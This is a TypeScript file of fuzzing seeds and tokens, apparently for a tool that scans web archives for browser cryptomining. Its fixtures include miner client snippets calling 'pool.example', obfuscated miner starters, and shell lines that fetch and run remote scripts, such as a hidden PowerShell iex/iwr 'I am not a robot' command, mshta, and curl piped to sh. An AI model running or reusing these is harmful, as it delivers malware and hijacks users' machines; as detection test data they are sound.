import binaryen from 'binaryen'
import { readdirSync, readFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import { sampleHtml } from '#archive/testing/sample-capture.ts'
import { signaturesDirectory } from '#judge/signatures.ts'

const text = (...lines: string[]): Uint8Array[] => lines.map((line) => Buffer.from(line))

const wat = [
  '(module)',
  `(module (memory (export "m") 33 4096) (data (i32.const 8) "\\01\\02\\03expand 32-byte k")
    (func $turn (param i64 i64) (result i64) (i64.xor (i64.rotl (local.get 0) (i64.const 13)) (i64.shr_u (local.get 1) (i64.const 7))))
    (func (export "hash") (param i32) (result i32) (local i32 i64)
      (loop $l (local.set 2 (call $turn (local.get 2) (i64.load (i32.and (local.get 1) (i32.const 2097136)))))
        (i64.store (i32.and (local.get 1) (i32.const 2097136)) (local.get 2))
        (br_if $l (i32.lt_u (local.tee 1 (i32.add (local.get 1) (i32.const 1))) (local.get 0)))) (i32.wrap_i64 (local.get 2))))`,
  `(module (import "env" "f" (func $f (param i32) (result i32))) (table 4 funcref) (elem (i32.const 0) $g $g) (global $n (mut i32) (i32.const 1))
    (func $g (param i32) (result i32) (block $b (result i32) (if (i32.eqz (local.get 0)) (then (global.set $n (i32.const 7))))
      (br_table $b $b (call $f (global.get $n)) (local.get 0)) (call_indirect (param i32) (result i32) (local.get 0) (i32.const 1)))) (start $s) (func $s))`,
  `(module (memory 1 1 shared) (func (result v128) (i8x16.shuffle 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 (v128.const i32x4 1 2 3 4) (v128.load (i32.const 0))))
    (func (drop (i32.atomic.rmw.add (i32.const 0) (i32.const 1))) (memory.fill (i32.const 0) (i32.const 1) (i32.const 9))))`,
]

function modules(): Uint8Array[] {
  return wat.map((source) => {
    const module = binaryen.parseText(source)
    module.setFeatures(binaryen.Features.All)
    const bytes = module.emitBinary()
    module.dispose()
    return bytes
  })
}

const client = `var w = new Worker(URL.createObjectURL(new Blob(['onmessage=function(e){for(var n=0;n<e.data.target;n++)postMessage(n)}'])));
var s = new WebSocket('wss://pool.example:443/proxy'); s.onopen = () => s.send(JSON.stringify({ type: 'auth', params: { site_key: 'k', user: null } }));
s.onmessage = ({ data }) => { const job = JSON.parse(data); w.postMessage({ job_id: job.job_id, blob: job.blob, target: job.target, throttle: .3 }) }`
const packed = `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0 1=2 3("4");1.5()',6,6,'var|miner|new|Miner|key|start'.split('|'),0,{}))`
const hidden = `var _0x1a2b=['c3RhcnQ=','bWluZXI=','V29ya2Vy'];(function(a,b){var c=function(d){while(--d){a.push(a.shift())}};c(++b)}(_0x1a2b,0x3));var _0x3c4d=function(a,b){a=a-0x0;var c=_0x1a2b[a];return atob(c)};window[_0x3c4d('0x1')][_0x3c4d('0x0')]();`
const core = `"use asm";function K(h,m){h=h|0;var i=0;for(;(i|0)<64;i=i+1|0){h=(h<<7|h>>>25)^0x428a2f98+1116352408;HEAP[(h&2097136)>>2]=h}return h|0} export const f = async function* () { yield* [1n, /x/u, \`\${K()}\`] }`

const documents = [
  sampleHtml,
  `<!doctype html><html><head><title>a</title><base href="/b/"><script src="//pool.example/m.js" data-key="k"></script></head>
<body onload="start()"><iframe srcdoc="&lt;script&gt;go()&lt;/script&gt;" width=1 height=1></iframe><svg><script>x</script></svg><template><p></template>
<table><tr><td><a href="javascript:go(1,2,3,4,5,6,7,8)">mine</a><select><option>1</select><math><mi>x</math><button onclick=go()>start mining</button>
<textarea><script></textarea><noscript><img></noscript><!-- saved from url=(0014)https://a.b/ --><p hidden style="display:none">x&amp;y&#0;&notin</p><plaintext>`,
]
const shader = `@group(0) @binding(0) var<storage, read_write> out: array<u32>;
@compute @workgroup_size(64) fn main(@builtin(global_invocation_id) id: vec3<u32>) { var h = 0x6a09e667u; let nonce = id.x; for (var i = 0u; i < 64u; i++) { h = (h << 7u | h >> 25u) ^ 0x428a2f98u; } if (h < out[0]) { out[1] = nonce; } /* c */ }`

const frames = text(
  '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"y","agent":"z","algo":["cn/r","rx/0"]}}',
  '{"type":"job","params":{"job_id":"1","blob":"0707e2","target":"ffffff00"}}',
  '{"identifier":"handshake","pool":"p","login":"l","password":"","userid":"","version":7}',
  '{"id":1,"method":"mining.subscribe","params":["m/1",null]}\n{"id":2,"method":"mining.authorize","params":["a.b","x"]}',
  'JOB,user,LOW,key\n1a2b,3c4d,10\n',
  Buffer.from('{"type":"submit","params":{"job_id":"1","nonce":"00000000","result":"ab"}}').toString('base64'),
  '\u0084\u00a6method\u00a3job',
)
const har = `{"log":{"version":"1.2","creator":{"name":"t","version":"1"},"pages":[{"id":"p","title":"t","startedDateTime":"2026-01-02T03:04:05Z"}],"entries":[{"pageref":"p","startedDateTime":"2026-01-02T03:04:05Z","time":1,"request":{"method":"GET","url":"http://a.example/","headers":[{"name":"A","value":"b"}],"postData":{"text":"x"}},"response":{"status":200,"statusText":"OK","headers":[],"content":{"mimeType":"text/html","encoding":"base64","text":"PHNjcmlwdCBzcmM9L2EuanM+PC9zY3JpcHQ+"}},"_webSocketMessages":[{"type":"send","time":1,"opcode":1,"data":"{}"}]}]}}`

function record(type: string, url: string, block: string, more = ''): string {
  return `WARC/1.1\r\nWARC-Type: ${type}\r\nWARC-Record-ID: <urn:test:${url}>\r\nWARC-Target-URI: ${url}\r\nWARC-Date: 2026-01-02T03:04:05Z\r\n${more}Content-Type: application/http; msgtype=response\r\nContent-Length: ${Buffer.byteLength(block)}\r\n\r\n${block}\r\n\r\n`
}
const answer = `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nTransfer-Encoding: chunked\r\n\r\n1c\r\n<script src="/a.js"></script>\r\n0\r\n\r\n`
const warc = `${record('warcinfo', 'urn:x', 'software: t\r\n')}${record('response', 'http://a.example/', answer)}${record('request', 'http://a.example/', 'GET / HTTP/1.1\r\nHost: a.example\r\n\r\n', 'WARC-Concurrent-To: <urn:test:http://a.example/>\r\n')}${record('revisit', 'http://b.example/', 'HTTP/1.1 200 OK\r\n\r\n', 'WARC-Refers-To-Target-URI: http://a.example/\r\n')}`

/** Input of our own that is right, by format. */
export const seedsOf: Readonly<Record<string, () => Uint8Array[]>> = {
  wasm: modules,
  javascript: () => text(client, packed, hidden, core),
  html: () => text(...documents),
  wgsl: () => text(shader),
  frames: () => frames,
  har: () => text(har),
  warc: () => [...text(warc), gzipSync(warc), Buffer.concat([gzipSync(warc.slice(0, 400)), gzipSync(warc.slice(400))])],
  yaml: () =>
    readdirSync(signaturesDirectory, { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.ya?ml$/.test(name))
      .slice(0, 12)
      .map((name) => readFileSync(`${signaturesDirectory}/${name}`)),
  shell: () =>
    text(
      'powershell -w hidden -c "iex(iwr https://a.example/x.ps1)" # I am not a robot',
      'echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash',
      'mshta https://a.example/x.hta',
      'cmd /c start /min curl -s http://a.example | sh',
    ),
  'seed-list': () =>
    text(
      'https://a.example/\n# c\nb.example\n1,c.example\n',
      'rank,domain\n1,a.example\n2,b.example\n',
      '\ufeffhttp://xn--bcher-kva.example/ü?q=1#f\r\nhttp://[::1]:80/\r\nftp://x\r\n',
    ),
}

/** Words of each format, for a mutation or a generator to put where they do not belong. */
export const tokensOf: Readonly<Record<string, readonly string[]>> = {
  javascript: [
    '(',
    '[',
    '{',
    '`${',
    '/*',
    '//',
    '=>',
    'function(',
    'eval(',
    'class{',
    '?.',
    '...',
    '"',
    '!',
    'await ',
    'yield ',
    '\\u{',
    '_0x1a2b',
    '\u2028',
    'new ',
    ';',
    '}',
    ')',
    'atob("',
    '[][',
  ],
  html: [
    '<div>',
    '</div>',
    '<table>',
    '<svg>',
    '<math>',
    '<template>',
    '<a>',
    '<b>',
    '<script>',
    '</script>',
    '<!--',
    '-->',
    '<iframe srcdoc="',
    '<select>',
    '<p a=',
    ' onclick="',
    '&#x',
    '<![CDATA[',
    '<plaintext>',
    '<frameset>',
    '<base href=',
    '<form>',
    '"',
  ],
  wgsl: ['/*', '//', '@compute', '@', 'fn f', '(', '{', '&', '0xffffffff', '<', 'for (', 'while'],
  frames: ['{', '[', '"', '"params":', '"method":', '"login"', ',', '\n', 'JOB,', '"job_id":', '\u0000', 'ffffffff'],
  har: [
    '{',
    '[',
    '"',
    '"entries":',
    '"log":',
    '"content":',
    '"text":',
    ',',
    ':',
    '\\u0000',
    '\\ud800',
    '"encoding":"base64"',
    '1e400',
    '-',
  ],
  warc: [
    'WARC/1.1\r\n',
    'Content-Length: 99999999999\r\n',
    'Content-Length: -1\r\n',
    '\r\n\r\n',
    'HTTP/1.1 200 OK\r\n',
    'Transfer-Encoding: chunked\r\n',
    'Content-Encoding: gzip\r\n',
    'Content-Encoding: br\r\n',
    'WARC-Type: revisit\r\n',
    'WARC-Truncated: length\r\n',
    'ffffffffffff\r\n',
  ],
  yaml: [
    '- ',
    ': ',
    '&a ',
    '*a',
    '<<: *a',
    '!!binary ',
    '|\n',
    '>',
    '{',
    '[',
    '? ',
    '%YAML 1.2\n---\n',
    '\n  ',
    '"',
    "'",
    '#',
    '!!js/function ',
  ],
  shell: ['|', '&&', ' ', 'bash', 'powershell ', '-enc ', 'http://', '"', '(', 'echo ', 'A'],
  'seed-list': ['\n', ',', ':', '//', '@', '.', '[', ']', '%', '\u0000', '\ufeff', 'http', '#', '"', '\t'],
  wasm: [],
  wacz: [],
}
